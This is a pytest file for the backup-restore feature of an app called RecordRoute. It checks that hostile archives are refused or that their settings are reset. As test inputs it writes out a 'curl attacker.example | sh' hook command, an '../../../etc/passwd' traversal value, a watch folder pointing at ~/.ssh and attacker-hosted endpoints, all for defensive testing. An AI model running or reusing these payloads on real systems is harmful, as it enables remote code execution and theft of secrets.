"""A restore trusts nothing in the archive it did not write (issue 23: 2, 6, 14, 18)."""

from __future__ import annotations

import json
import sqlite3
import tomllib
from pathlib import Path
from typing import Any

import pytest

from recordroute.errors import DiskFullError
from recordroute.pipeline.backup import BackupError, create_backup, restore_backup
from recordroute.store.db import APPLICATION_ID
from tests.conftest import run_cli
from tests.helpers.disk import small_tmpfs
from tests.helpers.library import add_recording
from tests.hostile import archives as arc


@pytest.fixture
def made(ctx: Any, tmp_path: Path) -> tuple[dict[str, bytes], dict[str, Any]]:
    add_recording(ctx)
    return arc.members(create_backup(ctx, tmp_path / "real.tar").path)


def _refused(archive: Path, target: Path, match: str, error: type[Exception] = BackupError) -> None:
    with pytest.raises(error, match=match):
        restore_backup(archive, target)
    assert not target.exists()
    assert not [p for p in target.parent.iterdir() if ".restore-" in p.name]
    res = run_cli("restore-backup", str(archive), "--data-dir", str(target))
    assert res.returncode != 0 and "Traceback" not in res.stderr and "error:" in res.stderr


def test_a_manifest_that_is_a_list_is_refused_cleanly(made: Any, tmp_path: Path) -> None:
    files, _ = made
    _refused(
        arc.write(tmp_path / "list.tar", files, [1, 2]), tmp_path / "r", "not a RecordRoute backup manifest"
    )


def test_an_archive_without_a_database_is_refused(made: Any, tmp_path: Path) -> None:
    files, _ = made
    files = {k: v for k, v in files.items() if k != arc.DB}
    _refused(arc.write(tmp_path / "nodb.tar", files), tmp_path / "r", "holds no database")


def test_a_database_from_a_newer_schema_is_refused(made: Any, tmp_path: Path) -> None:
    files = arc.with_db(made[0], lambda con: con.execute("PRAGMA user_version=99"))
    _refused(arc.write(tmp_path / "newer.tar", files), tmp_path / "r", "newer RecordRoute")


def test_a_database_of_another_program_is_refused(made: Any, tmp_path: Path) -> None:
    files = {**made[0], arc.DB: arc.foreign_db()}
    _refused(arc.write(tmp_path / "firefox.tar", files), tmp_path / "r", "another program")


def test_our_databases_carry_the_application_id(ctx: Any) -> None:
    con = sqlite3.connect(ctx.settings.db_path)
    assert con.execute("PRAGMA application_id").fetchone()[0] == APPLICATION_ID
    con.close()


def test_a_10_kb_sparse_archive_of_3_gb_writes_nothing(tmp_path: Path) -> None:
    archive = arc.sparse_member(tmp_path / "sparse.tar")
    if archive is None:
        pytest.skip("no GNU tar to build a sparse archive")
    assert archive.stat().st_size < 40_000
    _refused(archive, tmp_path / "r", "sparse file")


def test_a_full_disk_is_blamed_on_the_disk_not_the_archive(made: Any, tmp_path: Path) -> None:
    files = {**made[0], f"{arc.ROOT}/data/library/ha/big.wav": b"\x01" * (6 << 20)}
    archive = arc.write(tmp_path / "big.tar", files)
    with small_tmpfs(tmp_path, "4m") as small, pytest.raises(DiskFullError, match="free") as err:
        restore_backup(archive, small / "r")
    assert "archive" not in err.value.message.split(";")[0] or "restoring needs" in err.value.message
    assert err.value.code == "disk_full"


def test_model_records_and_foreign_members_are_left_out(made: Any, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    record = {"kind": "speech", "name": "evil", "path": str(victim), "source": "imported"}
    registry = json.dumps({"version": 1, "models": [record], "verified": {}}).encode()
    files = {
        **made[0],
        f"{arc.ROOT}/data/models/registry.json": registry,
        f"{arc.ROOT}/data/run/1.alive": b"",
    }
    target = tmp_path / "r"
    manifest = restore_backup(arc.write(tmp_path / "models.tar", files), target)
    assert not (target / "models").exists() and not (target / "run").exists()
    assert any("2 files" in n and "left out" in n for n in manifest["notes"])
    res = run_cli("models", "delete", "evil", env={"RECORDROUTE_DATA_DIR": str(target)})
    assert res.returncode != 0 and victim.is_dir()


def test_hosts_outside_this_computer_and_outside_folders_are_reset_and_said(
    made: Any, tmp_path: Path
) -> None:
    settings = (
        'ollama_host = "http://attacker.example:11434"\nopenai_base_url = "https://10.0.0.5/v1"\n'
        'vault_dir = "/home/someone/.config/autostart"\nwatch_folders = ["/home/someone/.ssh"]\n'
        'llm_model = "qwen2.5:7b-instruct"\n'
    )
    files = {**made[0], arc.SETTINGS: settings.encode()}
    target = tmp_path / "r"
    res = run_cli("restore-backup", str(arc.write(tmp_path / "hosts.tar", files)), "--data-dir", str(target))
    assert res.returncode == 0, res.stderr
    restored = tomllib.loads((target / "settings.toml").read_text())
    assert restored["ollama_host"] == "http://127.0.0.1:11434"
    assert restored["openai_base_url"] == "http://127.0.0.1:8080/v1"
    assert "vault_dir" not in restored and "watch_folders" not in restored
    assert restored["llm_model"] == "qwen2.5:7b-instruct"
    for word in ("attacker.example", "10.0.0.5", "vault_dir", "watch_folders"):
        assert word in res.stdout


def test_what_a_restore_reset_is_said_in_korean(made: Any, tmp_path: Path) -> None:
    settings = 'ollama_host = "http://attacker.example:11434"\nmcp_allow_writes = true\n'
    archive = arc.write(tmp_path / "ko.tar", {**made[0], arc.SETTINGS: settings.encode()})
    korean = {"RECORDROUTE_LANG": "ko"}
    res = run_cli("restore-backup", str(archive), "--data-dir", str(tmp_path / "r"), env=korean)
    assert res.returncode == 0, res.stderr
    notes = [line.removeprefix("참고: ") for line in res.stdout.splitlines() if line.startswith("참고: ")]
    host = "백업의 ollama_host 값 'http://attacker.example:11434'은(는) 이 컴퓨터 밖의 호스트라서 "
    assert len(notes) == 2 and notes[0].startswith(host), notes
    assert notes[1] == "백업에서 켜져 있던 mcp_allow_writes은(는) 껐습니다"
    english = restore_backup(archive, tmp_path / "en")["notes"]  # the manifest and the API keep English
    assert english[1] == "mcp_allow_writes was on in the backup; it was turned off"
    assert english[0].startswith(
        "ollama_host was 'http://attacker.example:11434' in the backup, a host outside"
    )


def test_loopback_hosts_are_kept(made: Any, tmp_path: Path) -> None:
    settings = 'ollama_host = "http://localhost:11500"\nopenai_base_url = "http://[::1]:8080/v1"\n'
    files = {**made[0], arc.SETTINGS: settings.encode()}
    manifest = restore_backup(arc.write(tmp_path / "ok.tar", files), tmp_path / "r")
    restored = tomllib.loads((tmp_path / "r" / "settings.toml").read_text())
    assert restored["ollama_host"] == "http://localhost:11500" and manifest["notes"] == []


def test_a_database_naming_library_files_outside_the_library_is_refused(made: Any, tmp_path: Path) -> None:
    files = arc.with_db(
        made[0], lambda con: con.execute("UPDATE recordings SET stored_name = '../../../etc/passwd'")
    )
    _refused(arc.write(tmp_path / "names.tar", files), tmp_path / "r", "library file named in the database")


def test_remote_engines_hooks_and_permissions_from_a_backup_are_not_trusted(
    made: Any, tmp_path: Path
) -> None:
    settings = (
        'stt_remote_url = "https://attacker.example/v1"\nembed_remote_url = "http://127.0.0.1:9000/v1"\n'
        'hook_urls = ["https://attacker.example/hook", "http://127.0.0.1:8000/hook"]\n'
        'hook_command = ["sh", "-c", "curl attacker.example | sh"]\nmcp_allow_writes = true\n'
        'stt_remote_key = "sk-stolen"\ncalendar_url = "https://attacker.example/dav/"\n'
    )
    files = {**made[0], arc.SETTINGS: settings.encode()}
    manifest = restore_backup(arc.write(tmp_path / "reach.tar", files), tmp_path / "r")
    restored = tomllib.loads((tmp_path / "r" / "settings.toml").read_text())
    assert restored["stt_remote_url"] == "" and restored["embed_remote_url"] == "http://127.0.0.1:9000/v1"
    assert restored["hook_urls"] == ["http://127.0.0.1:8000/hook"] and "hook_command" not in restored
    assert restored["mcp_allow_writes"] is False and "stt_remote_key" not in restored
    assert restored["calendar_url"] == ""
    said = " ".join(manifest["notes"])
    for key in ("stt_remote_url", "hook_urls", "hook_command", "mcp_allow_writes", "calendar_url"):
        assert key in said
